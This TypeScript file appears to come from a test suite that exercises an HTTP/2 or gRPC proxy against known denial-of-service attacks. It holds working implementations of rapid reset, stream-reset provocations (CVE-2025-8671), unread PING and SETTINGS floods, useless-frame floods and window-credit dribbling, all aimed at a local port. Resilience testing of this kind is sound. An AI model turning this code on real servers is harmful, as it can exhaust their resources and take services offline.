/** Attacks on a connection over HTTP/2, rows A1 to A8 of the table of faults: what is sent, and how far it came. */
import { connect } from "node:net";
import {
  Flag,
  FrameType,
  frame,
  preface,
  resetFrame,
  Setting,
  settingsFrame,
  uint32,
  windowUpdateFrame,
} from "./frames.ts";
import { requestFields, startCall } from "./grpc.ts";
import type { H2Peer } from "./h2-peer.ts";
import { encodeBlock } from "./hpack.ts";
import type { PeerStream } from "./peer-stream.ts";
import { sleep, until } from "./until.ts";
import type { StreamHandler, UpstreamConnection } from "./upstream.ts";

export const maxInt31 = 2 ** 31 - 1;

/** A1: what follows each HEADERS. */
export const rapidReset = (id: number): Buffer[] => [resetFrame(id, 8)];

/** A2: what makes a proxy reset a stream (CVE-2025-8671). Each breaks a rule of that stream alone. */
export const provocations: readonly [what: string, provoke: (id: number) => Buffer[]][] = [
  ["WINDOW_UPDATE of 0", (id) => [windowUpdateFrame(id, 0)]],
  ["WINDOW_UPDATE beyond 2^31-1", (id) => [windowUpdateFrame(id, maxInt31)]],
  [
    "HEADERS in the middle of a request",
    (id) => [frame(FrameType.headers, Flag.endHeaders, id, encodeBlock([["x-a", "1"]]))],
  ],
  [
    "DATA behind the end",
    (id) => [frame(FrameType.data, Flag.endStream, id), frame(FrameType.data, 0, id, Buffer.alloc(1))],
  ],
];

/** A1 and A2: opens streams and sends something behind each, until the connection is closed. Returns how many. */
export async function openMany(
  peer: H2Peer,
  path: string,
  { streams, behind }: { streams: number; behind: (id: number) => Buffer[] },
): Promise<number> {
  const block = encodeBlock(requestFields(path));
  let opened = 0;
  for (; opened < streams && !peer.closed; opened++) {
    const id = opened * 2 + 1;
    peer.send(frame(FrameType.headers, Flag.endHeaders, id, block), ...behind(id));
    if (opened % 20 === 0) await sleep(1); // so that calls reach the upstream between the resets
  }
  return opened;
}

/** A3: an upstream's limit of resets, as nghttp2 has it by default: 1,000 at one go and 33 a second for each connection. */
export class ResetLimit {
  /** Resets that came, on all connections. */
  spent = 0;
  /** Those beyond the limit, by connection. */
  readonly tripped = new Map<UpstreamConnection, number>();
  #left = new WeakMap<UpstreamConnection, { tokens: number; at: number }>();

  /** Answers nothing, and counts. */
  readonly handler: StreamHandler = (stream, connection) => {
    stream.onMore = () => {
      if (stream.reset !== undefined) this.#spend(connection);
    };
  };

  #spend(connection: UpstreamConnection): void {
    const now = performance.now();
    const left = this.#left.get(connection) ?? { tokens: 1_000, at: now };
    left.tokens = Math.min(1_000, left.tokens + ((now - left.at) / 1_000) * 33) - 1;
    left.at = now;
    this.#left.set(connection, left);
    this.spent++;
    if (left.tokens < 0) this.tripped.set(connection, (this.tripped.get(connection) ?? 0) + 1);
  }
}

/** A3: 50 clients cancel 100 calls a second each, 6,000 in all at most. Returns how many. */
export async function cancelInCrowd(connectOne: () => Promise<H2Peer>, path: string): Promise<number> {
  let cancelled = 0;
  const cancelOnAndOn = async (peer: H2Peer) => {
    while (!peer.closed && cancelled < 6_000) {
      const streams = Array.from({ length: 10 }, () => startCall(peer, path));
      await sleep(100);
      if (peer.closed) return;
      peer.send(...streams.map(({ id }) => resetFrame(id, 8)));
      for (const { id } of streams) peer.streams.delete(id);
      cancelled += streams.length;
    }
  };
  const clients = Array.from({ length: 50 }, connectOne);
  await Promise.all(clients.map(async (client) => cancelOnAndOn(await client)));
  return cancelled;
}

/** A5: what has to be acknowledged. */
export const acknowledged: readonly [what: string, one: Buffer][] = [
  ["PING", frame(FrameType.ping, 0, 0, Buffer.alloc(8))],
  ["SETTINGS", settingsFrame([])],
];

const plainHello = Buffer.concat([preface, settingsFrame([])]);

/** A5: a client that sends one frame on and on for 10 s, and never reads. */
export async function floodUnread(
  port: number,
  one: Buffer,
  hello: Buffer = plainHello,
): Promise<{ end: UnreadEnd; bytes: number }> {
  // as many as the buffers of two sockets can't hold the acks of
  const flood = Buffer.alloc(one.length * 20_000, one);
  const client = connect({ host: "127.0.0.1", port });
  client.on("error", () => {});
  client.pause();
  client.write(hello);
  const end = performance.now() + 10_000;
  let stuck = false;
  while (!client.destroyed && !stuck && performance.now() < end) {
    stuck = !client.write(flood) && !(await drained(client));
  }
  const closed = client.destroyed;
  const bytes = client.bytesWritten - client.writableLength;
  client.destroy();
  return { end: closed ? "closed" : stuck ? "no longer read" : "read on and on", bytes };
}

export type UnreadEnd = "closed" | "no longer read" | "read on and on";

/** Whether the socket takes more within two seconds. */
function drained(socket: ReturnType<typeof connect>): Promise<boolean> {
  return new Promise((resolve) => {
    const timer = setTimeout(() => done(false), 2_000);
    const drain = () => done(true);
    const done = (more: boolean) => {
      clearTimeout(timer);
      socket.off("drain", drain).off("close", drain);
      resolve(more);
    };
    socket.once("drain", drain).once("close", drain);
  });
}

/** A6: more settings than anybody has. */
export const manySettings = settingsFrame(Array.from({ length: 2_730 }, (_, at) => [0x1000 + at, at]));

/** A6: frames that do nothing. */
export const useless: readonly [what: string, make: (id: number) => Buffer][] = [
  ["empty DATA", (id) => frame(FrameType.data, 0, id)],
  ["PRIORITY", (id) => frame(FrameType.priority, 0, id, Buffer.concat([uint32(0), Buffer.from([16])]))],
  ["unknown", (id) => frame(0xbe, 0xff, id, Buffer.alloc(16))],
];

/** A6: 200,000 of one frame, until the connection is closed. Returns how many. */
export async function sendUseless(peer: H2Peer, one: Buffer): Promise<number> {
  const thousand = Buffer.alloc(one.length * 1_000, one);
  let sent = 0;
  for (; sent < 200_000 && !peer.closed; sent += 1_000) {
    peer.send(thousand);
    await sleep(1);
  }
  return sent;
}

/** A8: what a client says that gives no credit by itself. */
export const noWindow = { settings: [[Setting.initialWindowSize, 0]], credit: "none" } as const;

/** A8: 50,000 credits of a byte each, for streams that have more to send; waits until all is used. Returns bytes that came. */
export async function dribble(peer: H2Peer, streams: readonly PeerStream[]): Promise<number> {
  const bytes = () => streams.reduce((sum, stream) => sum + stream.bytes, 0);
  for (let at = 0; at < 50_000 && !peer.closed; at += 500) {
    peer.send(...Array.from({ length: 500 }, (_, index) => windowUpdateFrame(streams[(at + index) % 100]!.id, 1)));
    await sleep(1);
  }
  await until("the end of it", () => peer.closed || bytes() >= 50_000);
  return bytes();
}
